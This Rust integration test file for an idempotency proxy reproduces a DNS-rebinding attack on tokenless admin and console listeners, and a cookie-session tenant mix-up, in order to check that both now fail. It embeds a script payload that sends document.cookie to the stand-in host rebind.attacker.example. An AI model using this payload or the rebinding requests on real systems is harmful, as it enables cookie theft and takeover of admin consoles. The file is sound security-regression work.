//! Two attacks on who a request is from, as they were made.
//!
//! DNS rebinding: a page on `rebind.attacker.example`, its name then pointed
//! at 127.0.0.1, sends same-origin requests (its own `Origin`, `Host:
//! rebind.attacker.example:PORT`) to an idemgate listener that is open
//! without tokens: `serve`'s, and the proxy's admin listener. It listed the
//! stuck keys and settled one through the console with a `<script>` body,
//! which the victim's retry was then replayed. Each such request is now
//! `421 misdirected-request` before any route runs, and nothing changes;
//! the listener's own address (`127.0.0.1:PORT`, `localhost:PORT`) and a
//! name of `IDEMGATE_ALLOWED_HOSTS` are answered; the proxy's own listener,
//! whose `Host` is the origin's, forwards whatever it names.
//!
//! A shared anonymous tenant: with no `Authorization`, two users whose
//! session is a cookie were one tenant, and user B, sending A's key, was
//! replayed A's response (A's session in it, as the origin echoed it).
//! Under `IDEMGATE_TENANT_FROM=cookie:session` each session is its own
//! tenant; with the default, the first such request is a WARN naming the
//! setting; `IDEMGATE_REQUIRE_TENANT=true` refuses it with `401` before the
//! origin is called.

use crate::common;

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use common::app::{TestApp, TestResponse, fresh_key};
use common::backend::Backend;
use common::logs;
use common::proxy::{TestProxy, replayed};
use common::upstream::Upstream;
use http_body_util::BodyExt;
use idemgate::server::open::open_store;
use idemgate::server::proxy::Proxy;
use idemgate::server::serve::{self, Serving};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tower::ServiceExt;

const ATTACKER: &str = "rebind.attacker.example";

/// The `<script>` the attacker's page settled a key with.
const SCRIPT_BODY: &str =
    "%3Cscript%3Efetch(%27//rebind.attacker.example/%27%2Bdocument.cookie)%3C%2Fscript%3E";

fn hash_hex(key: &str) -> String {
    hex::encode(Sha256::digest(key.as_bytes()))
}

/// One whole HTTP/1.1 request over a fresh socket to `addr`, with `host`
/// as its `Host`, as a browser sends it; the answer read to the end.
async fn raw(
    addr: SocketAddr,
    method: &str,
    target: &str,
    host: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> TestResponse {
    let mut request = format!(
        "{method} {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\
         Content-Length: {}\r\n",
        body.len()
    );
    for (name, value) in headers {
        request.push_str(&format!("{name}: {value}\r\n"));
    }
    request.push_str("\r\n");
    request.push_str(body);
    let mut socket = tokio::net::TcpStream::connect(addr).await.unwrap();
    socket.write_all(request.as_bytes()).await.unwrap();
    let mut got = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), socket.read_to_end(&mut got))
        .await
        .expect("an answer within 10 s")
        .unwrap();
    let got = String::from_utf8_lossy(&got).into_owned();
    let (head, body) = got.split_once("\r\n\r\n").expect("a response head");
    let mut lines = head.lines();
    let status: u16 = lines
        .next()
        .and_then(|l| l.split(' ').nth(1))
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("a status line in {head:?}"));
    let mut map = http::HeaderMap::new();
    for line in lines {
        let (name, value) = line.split_once(':').expect("a header line");
        map.append(
            http::HeaderName::from_bytes(name.trim().as_bytes()).unwrap(),
            http::HeaderValue::from_str(value.trim()).unwrap(),
        );
    }
    // Chunked bodies (the console's pages) are read as they came: the
    // tests below look for words in them, and parse only whole JSON.
    TestResponse {
        status: http::StatusCode::from_u16(status).unwrap(),
        headers: map,
        body: serde_json::from_str(body).unwrap_or(Value::Null),
        text: body.to_owned(),
    }
}

/// The requests the attacker's page made to a listener at `addr`, each
/// with `host` as its `Host` and the page's own origin (same-origin, as
/// the browser saw it), against the stuck key `tenant`/`hash`: every
/// admin and console route, the API's docs and health. Each answer with
/// its name.
async fn attack(
    addr: SocketAddr,
    host: &str,
    tenant: &str,
    hash: &str,
) -> Vec<(String, TestResponse)> {
    let origin = format!("http://{host}");
    let page = [
        ("origin", origin.as_str()),
        ("sec-fetch-site", "same-origin"),
    ];
    let json_headers = [
        ("origin", origin.as_str()),
        ("sec-fetch-site", "same-origin"),
        ("content-type", "application/json"),
    ];
    let form_headers = [
        ("origin", origin.as_str()),
        ("sec-fetch-site", "same-origin"),
        ("hx-request", "true"),
        ("content-type", "application/x-www-form-urlencoded"),
    ];
    let resolve = json!({
        "action": "complete",
        "response": {"status": 200, "headers": {"content-type": "text/html"},
                     "body": "<script>alert(document.cookie)</script>"},
        "reason": "rebound",
    })
    .to_string();
    let settle = format!(
        "action=complete&status=200&headers=Content-Type%3A+text%2Fhtml&body={SCRIPT_BODY}\
         &reason=rebound"
    );
    let mut answers = Vec::new();
    for (name, method, target, headers, body) in [
        (
            "admin list",
            "GET",
            "/v1/admin/keys?state=stuck".to_owned(),
            &page[..],
            String::new(),
        ),
        (
            "admin show",
            "GET",
            format!("/v1/admin/keys/{tenant}/{hash}"),
            &page[..],
            String::new(),
        ),
        (
            "admin resolve",
            "POST",
            format!("/v1/admin/keys/{tenant}/{hash}/resolve"),
            &json_headers[..],
            resolve.clone(),
        ),
        (
            "console page",
            "GET",
            "/console".to_owned(),
            &page[..],
            String::new(),
        ),
        (
            "console queue",
            "GET",
            "/console/fragments/queue".to_owned(),
            &form_headers[..],
            String::new(),
        ),
        (
            "console settle",
            "POST",
            format!("/console/fragments/keys/{tenant}/{hash}/resolve"),
            &form_headers[..],
            settle.clone(),
        ),
        (
            "healthz",
            "GET",
            "/healthz".to_owned(),
            &page[..],
            String::new(),
        ),
        (
            "metrics",
            "GET",
            "/metrics".to_owned(),
            &page[..],
            String::new(),
        ),
    ] {
        let res = raw(addr, method, &target, host, headers, &body).await;
        answers.push((name.to_owned(), res));
    }
    answers
}

/// Every answer is `421 misdirected-request`, naming the setting.
#[track_caller]
fn all_misdirected(answers: &[(String, TestResponse)]) {
    for (name, res) in answers {
        assert_eq!(res.status, 421, "{name}: {res:#?}");
        res.assert_problem(421, "misdirected-request");
        assert!(
            res.body["detail"]
                .as_str()
                .unwrap()
                .contains("IDEMGATE_ALLOWED_HOSTS"),
            "{name}: {res:#?}"
        );
    }
}

/// The key's state, as the store has it (asked in-process, past any
/// listener); `None` once released (a released key is new again).
async fn state_of(app: &TestApp, tenant: &str, hash: &str) -> Option<String> {
    let res = app
        .send("GET", &format!("/v1/admin/keys/{tenant}/{hash}"), &[], None)
        .await;
    if res.status == 404 {
        return None;
    }
    assert_eq!(res.status, 200, "{res:#?}");
    Some(res.body["state"].as_str().unwrap().to_owned())
}

/// `app`'s router served on a real loopback listener (port 0), as
/// `idemgate serve` serves it.
async fn listen(app: &TestApp) -> (SocketAddr, tokio::task::JoinHandle<std::io::Result<()>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let serving = Serving {
        grace: Duration::from_secs(1),
        ..Serving::from(&common::app::serve_args(&[]).run)
    };
    let task = tokio::spawn(serve::serve(
        listener,
        app.router.clone(),
        serving,
        std::future::pending(),
    ));
    (addr, task)
}

/// `serve` without tokens, on loopback: every route refuses the rebound
/// name, and the key it went for is still stuck; its own address and
/// `localhost` with its port are answered, and the settle goes through
/// from there.
async fn serve_answers_only_its_own_address(b: Backend) {
    let app = TestApp::new(&b.url(), &[]).await;
    let (addr, task) = listen(&app).await;
    let key = fresh_key();
    let held = app
        .reserve(
            &key,
            &json!({"lease_seconds": 1, "on_lease_expiry": "hold"}).to_string(),
        )
        .await;
    assert_eq!(held.status, 201, "{held:#?}");
    TestApp::outlive(1).await;
    let hash = hash_hex(&key);
    assert_eq!(
        state_of(&app, "default", &hash).await.as_deref(),
        Some("unknown")
    );

    let port = addr.port();
    let rebound = format!("{ATTACKER}:{port}");
    let mut answers = attack(addr, &rebound, "default", &hash).await;
    for (name, target) in [
        ("docs", "/docs"),
        ("openapi", "/openapi.json"),
        ("root", "/"),
    ] {
        answers.push((
            name.to_owned(),
            raw(addr, "GET", target, &rebound, &[], "").await,
        ));
    }
    answers.push((
        "reserve".to_owned(),
        raw(
            addr,
            "POST",
            "/v1/reservations",
            &rebound,
            &[
                ("idempotency-key", &fresh_key()),
                ("content-type", "application/json"),
            ],
            "{}",
        )
        .await,
    ));
    // A name in the request target (absolute form) is checked as `Host` is.
    answers.push((
        "absolute target".to_owned(),
        raw(
            addr,
            "GET",
            &format!("http://{rebound}/v1/admin/keys?state=stuck"),
            &format!("127.0.0.1:{port}"),
            &[],
            "",
        )
        .await,
    ));
    all_misdirected(&answers);
    assert_eq!(
        state_of(&app, "default", &hash).await.as_deref(),
        Some("unknown")
    );

    // Its own names: answered.
    for host in [format!("127.0.0.1:{port}"), format!("localhost:{port}")] {
        let list = raw(addr, "GET", "/v1/admin/keys?state=stuck", &host, &[], "").await;
        assert_eq!(list.status, 200, "{host}: {list:#?}");
        assert!(list.text.contains(&hash), "{host}: {list:#?}");
        for target in ["/console", "/docs", "/healthz"] {
            let res = raw(addr, "GET", target, &host, &[], "").await;
            assert_eq!(res.status, 200, "{host} {target}: {res:#?}");
        }
    }
    let origin = format!("http://localhost:{port}");
    let settle = raw(
        addr,
        "POST",
        &format!("/console/fragments/keys/default/{hash}/resolve"),
        &format!("localhost:{port}"),
        &[
            ("origin", &origin),
            ("hx-request", "true"),
            ("content-type", "application/x-www-form-urlencoded"),
        ],
        "action=release&reason=checked",
    )
    .await;
    assert_eq!(settle.status, 200, "{settle:#?}");
    assert_eq!(state_of(&app, "default", &hash).await, None, "released");
    task.abort();
}

/// `IDEMGATE_ALLOWED_HOSTS` names what else the listener answers: that name
/// (at any port, or the one given), and still nothing else.
async fn allowed_hosts_admit_the_names_they_list(b: Backend) {
    let app = TestApp::new(
        &b.url(),
        &["--allowed-hosts", "idemgate.test, ops.example:8443"],
    )
    .await;
    let (addr, task) = listen(&app).await;
    let port = addr.port();
    for (host, status) in [
        (format!("idemgate.test:{port}"), 200),
        ("IDEMGATE.test".to_owned(), 200),
        ("ops.example:8443".to_owned(), 200),
        (format!("ops.example:{port}"), 421),
        (format!("{ATTACKER}:{port}"), 421),
        (format!("127.0.0.1:{port}"), 200),
    ] {
        let res = raw(addr, "GET", "/v1/admin/keys?state=stuck", &host, &[], "").await;
        assert_eq!(res.status, status, "{host}: {res:#?}");
    }
    task.abort();

    // With tenant tokens the listener is not open: `Host` is checked only
    // where names are set.
    let tokens = ["--tokens", "acme:acme-tok-5a1c"];
    let app = TestApp::new(&b.url(), &tokens).await;
    let (addr, task) = listen(&app).await;
    let res = raw(addr, "GET", "/healthz", &format!("{ATTACKER}:1"), &[], "").await;
    assert_eq!(res.status, 200, "{res:#?}");
    task.abort();
    let app = TestApp::new(
        &b.url(),
        &[
            "--tokens",
            "acme:acme-tok-5a1c",
            "--allowed-hosts",
            "idemgate.test",
        ],
    )
    .await;
    let (addr, task) = listen(&app).await;
    let res = raw(addr, "GET", "/healthz", &format!("{ATTACKER}:1"), &[], "").await;
    res.assert_problem(421, "misdirected-request");
    let res = raw(addr, "GET", "/healthz", "idemgate.test", &[], "").await;
    assert_eq!(res.status, 200, "{res:#?}");
    task.abort();
}

/// The proxy's admin listener without admin tokens (loopback): the rebound
/// name reaches none of it, and the stuck key stays stuck; its own address
/// lists it. The proxy's own listener forwards whatever `Host` it is sent.
async fn the_proxy_admin_listener_answers_only_its_own_address(b: Backend) {
    let upstream = Upstream::start().await;
    let proxy = TestProxy::start(
        &b.url(),
        &upstream.url(),
        &["--upstream-timeout", "1", "--upstream-abandon-after", "1"],
        Vec::new(),
    )
    .await;
    // A key whose call ran past the abandon bound: unknown, an operator's.
    let key = fresh_key();
    proxy.secrets.lock().unwrap().push(key.clone());
    let cut = proxy.post("/slow/3000", &key, "{}").await;
    cut.assert_problem(504, "upstream-timeout");
    let hash = hash_hex(&key);
    let admin: SocketAddr = proxy.admin.trim_start_matches("http://").parse().unwrap();
    let own = format!("127.0.0.1:{}", admin.port());
    let stuck = || async {
        let list = raw(admin, "GET", "/v1/admin/keys?state=stuck", &own, &[], "").await;
        assert_eq!(list.status, 200, "{list:#?}");
        list.body["keys"]
            .as_array()
            .unwrap()
            .iter()
            .find(|k| k["key_hash"] == hash.as_str())
            .cloned()
    };
    let mut view = None;
    for _ in 0..50 {
        view = stuck().await;
        if view.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let view = view.expect("the cut-off key is in the queue");
    let tenant = view["tenant"].as_str().unwrap().to_owned();

    let rebound = format!("{ATTACKER}:{}", admin.port());
    let answers = attack(admin, &rebound, &tenant, &hash).await;
    all_misdirected(&answers);
    let policy = raw(admin, "GET", "/v1/policy", &rebound, &[], "").await;
    policy.assert_problem(421, "misdirected-request");
    let after = stuck().await.expect("still in the queue");
    assert_eq!(after["state"], "unknown", "{after:#}");

    let local = format!("localhost:{}", admin.port());
    for target in ["/console", "/healthz", "/v1/policy"] {
        let res = raw(admin, "GET", target, &local, &[], "").await;
        assert_eq!(res.status, 200, "{target}: {res:#?}");
    }

    // The proxy's own listener: the origin's name, whatever it is.
    let through = proxy
        .send_raw_request(&format!(
            "GET /echo HTTP/1.1\r\nHost: {ATTACKER}\r\nConnection: close\r\n\r\n"
        ))
        .await;
    assert_eq!(through.status, 200, "{through:#?}");
    assert_eq!(through.body["headers"]["host"][0], ATTACKER, "{through:#?}");
}

/// Two users whose session is a cookie, no `Authorization`, one key
/// (`order-42`): under `IDEMGATE_TENANT_FROM=cookie:session` each is its own
/// tenant, and gets its own execution; neither is replayed the other's
/// answer, nor told the other's key exists (`422`).
async fn each_session_cookie_is_its_own_tenant(b: Backend) {
    let upstream = Upstream::start().await;
    let proxy = TestProxy::start(
        &b.url(),
        &upstream.url(),
        &["--tenant-from", "cookie:session"],
        Vec::new(),
    )
    .await;
    let order = |cookie: &'static str, body: &'static str| {
        let proxy = &proxy;
        async move {
            proxy
                .send(
                    "POST",
                    "/echo",
                    &[
                        ("idempotency-key", "order-42"),
                        ("content-type", "application/json"),
                        ("cookie", cookie),
                    ],
                    Some(body),
                )
                .await
        }
    };
    let a = order("theme=dark; session=sess-A-5f1e", r#"{"sku":1}"#).await;
    assert_eq!(a.status, 200, "{a:#?}");
    let b_same = order("session=sess-B-90c2", r#"{"sku":1}"#).await;
    assert_eq!(b_same.status, 200, "{b_same:#?}");
    assert!(!replayed(&b_same), "B was replayed A's answer: {b_same:#?}");
    assert!(!b_same.text.contains("sess-A-5f1e"), "{b_same:#?}");
    assert!(b_same.text.contains("sess-B-90c2"), "{b_same:#?}");
    let c_other = order("session=sess-C-33d0", r#"{"sku":2}"#).await;
    assert_eq!(
        c_other.status, 200,
        "C learnt of another's key: {c_other:#?}"
    );
    assert_eq!(upstream.started("order-42"), 3);
    // Each session's own retry is its own replay.
    let a_again = order("session=sess-A-5f1e; theme=dark", r#"{"sku":1}"#).await;
    assert!(replayed(&a_again), "{a_again:#?}");
    assert!(a_again.text.contains("sess-A-5f1e"), "{a_again:#?}");
    assert_eq!(upstream.started("order-42"), 3);
    // Which sources scope keys, published.
    let (status, policy) = proxy.admin_get("/v1/policy").await;
    assert_eq!(status, 200);
    let policy: Value = serde_json::from_str(&policy).unwrap();
    assert_eq!(
        policy["tenant_sources"],
        json!(["cookie:session"]),
        "{policy:#}"
    );
    proxy
        .secrets
        .lock()
        .unwrap()
        .extend(["sess-A-5f1e", "sess-B-90c2", "sess-C-33d0"].map(str::to_owned));
}

/// With the default sources (`Authorization`), a keyed request that carries
/// only a `Cookie` is in the anonymous tenant: the first is a WARN naming
/// `IDEMGATE_TENANT_FROM`, without the cookie's value.
async fn a_cookie_in_the_anonymous_tenant_is_warned_about(b: Backend) {
    let (upstream, proxy) = {
        let upstream = Upstream::start().await;
        let proxy = TestProxy::start(&b.url(), &upstream.url(), &[], Vec::new()).await;
        (upstream, proxy)
    };
    let warned = || {
        logs::captured()
            .lines()
            .filter(|l| l.contains("WARN") && l.contains("IDEMGATE_TENANT_FROM"))
            .count()
    };
    let before = warned();
    for cookie in ["session=sess-W-7a21", "session=sess-W-7a22"] {
        let res = proxy
            .send(
                "POST",
                "/echo",
                &[("idempotency-key", &fresh_key()), ("cookie", cookie)],
                Some("{}"),
            )
            .await;
        assert_eq!(res.status, 200, "{res:#?}");
    }
    assert_eq!(upstream.total(), 2);
    assert_eq!(warned(), before + 1, "one WARN per proxy");
    proxy
        .secrets
        .lock()
        .unwrap()
        .extend(["sess-W-7a21", "sess-W-7a22"].map(str::to_owned));
}

/// `IDEMGATE_REQUIRE_TENANT=true`: a keyed request without a credential is
/// `401 unauthorized` and the origin never sees it; one without a key, or
/// with a credential, goes through.
async fn require_tenant_refuses_a_keyed_request_without_credentials(b: Backend) {
    let upstream = Upstream::start().await;
    let proxy = TestProxy::start(
        &b.url(),
        &upstream.url(),
        &[
            "--tenant-from",
            "Authorization,cookie:session",
            "--require-tenant",
        ],
        Vec::new(),
    )
    .await;
    let refused = proxy
        .send(
            "POST",
            "/echo",
            &[("idempotency-key", "order-42"), ("cookie", "theme=dark")],
            Some("{}"),
        )
        .await;
    refused.assert_problem(401, "unauthorized");
    assert!(
        refused.body["detail"]
            .as_str()
            .unwrap()
            .contains("IDEMGATE_REQUIRE_TENANT"),
        "{refused:#?}"
    );
    assert_eq!(upstream.total(), 0, "the origin was called");
    let keyless = proxy.send("POST", "/echo", &[], Some("{}")).await;
    assert_eq!(keyless.status, 200, "{keyless:#?}");
    for credential in [
        ("cookie", "session=sess-R-1b0d"),
        ("authorization", "Bearer tok-R-2c4e"),
    ] {
        let res = proxy
            .send(
                "POST",
                "/echo",
                &[("idempotency-key", &fresh_key()), credential],
                Some("{}"),
            )
            .await;
        assert_eq!(res.status, 200, "{credential:?}: {res:#?}");
    }
    assert_eq!(upstream.total(), 3);
    proxy.secrets.lock().unwrap().push("sess-R-1b0d".to_owned());
}

/// An MCP server's tool endpoint that counts its calls and answers each
/// with its number.
async fn mcp_upstream(calls: Arc<AtomicUsize>) -> String {
    let app = axum::Router::new().route(
        "/mcp",
        axum::routing::post(move |axum::Json(call): axum::Json<Value>| {
            let n = calls.fetch_add(1, Ordering::SeqCst) + 1;
            async move {
                axum::Json(json!({ "jsonrpc": "2.0", "id": call["id"],
                    "result": { "content": [{ "type": "text", "text": format!("call {n}") }] } }))
            }
        }),
    );
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

/// A `tools/call` of `charge` with `key`, sent with `cookie` (if any).
async fn mcp_call(app: &axum::Router, id: u64, key: &str, cookie: Option<&str>) -> Value {
    let body = json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call",
        "params": { "name": "charge", "arguments": { "amount": 5, "idempotency_key": key } } });
    let mut req = http::Request::post("/mcp")
        .header("content-type", "application/json")
        .header("accept", "application/json, text/event-stream");
    if let Some(cookie) = cookie {
        req = req.header("cookie", cookie);
    }
    let res = app
        .clone()
        .oneshot(req.body(axum::body::Body::from(body.to_string())).unwrap())
        .await
        .unwrap();
    let bytes = res.into_body().collect().await.unwrap().to_bytes();
    serde_json::from_slice(&bytes).unwrap_or(Value::Null)
}

/// The MCP door takes the tenant as the HTTP door does: two sessions'
/// cookies, one key, two executions; no credential under
/// `IDEMGATE_REQUIRE_TENANT` reaches no tool.
async fn the_mcp_door_scopes_keys_by_the_same_sources(b: Backend) {
    logs::init();
    let calls = Arc::new(AtomicUsize::new(0));
    let up = mcp_upstream(calls.clone()).await;
    let url = b.url();
    let args = common::proxy::proxy_args(&[
        "--protocol",
        "mcp",
        "--upstream",
        &up,
        "--database-url",
        &url,
        "--tenant-from",
        "cookie:session",
        "--require-tenant",
    ]);
    args.validate().unwrap();
    let store = open_store(&args.store, true).await.unwrap();
    let app = Proxy::build(&args, Vec::new(), store).unwrap().app;
    let a = mcp_call(&app, 1, "order-42", Some("session=sess-MA-01")).await;
    let b_call = mcp_call(&app, 2, "order-42", Some("session=sess-MB-02")).await;
    assert_eq!(a["result"]["content"][0]["text"], "call 1", "{a}");
    assert_eq!(b_call["result"]["content"][0]["text"], "call 2", "{b_call}");
    let a_again = mcp_call(&app, 3, "order-42", Some("session=sess-MA-01")).await;
    assert_eq!(
        a_again["result"]["content"][0]["text"], "call 1",
        "{a_again}"
    );
    let anonymous = mcp_call(&app, 4, "order-43", None).await;
    assert_eq!(calls.load(Ordering::SeqCst), 2, "{anonymous}");
    assert!(
        anonymous.to_string().contains("unauthorized"),
        "{anonymous}"
    );
    logs::assert_absent(&["sess-MA-01", "sess-MB-02"]);
}

both_stores! {
    serial: [
        the_mcp_door_scopes_keys_by_the_same_sources,
        serve_answers_only_its_own_address,
        allowed_hosts_admit_the_names_they_list,
        each_session_cookie_is_its_own_tenant,
        a_cookie_in_the_anonymous_tenant_is_warned_about,
        require_tenant_refuses_a_keyed_request_without_credentials,
    ],
    concurrent: [
        the_proxy_admin_listener_answers_only_its_own_address,
    ],
}
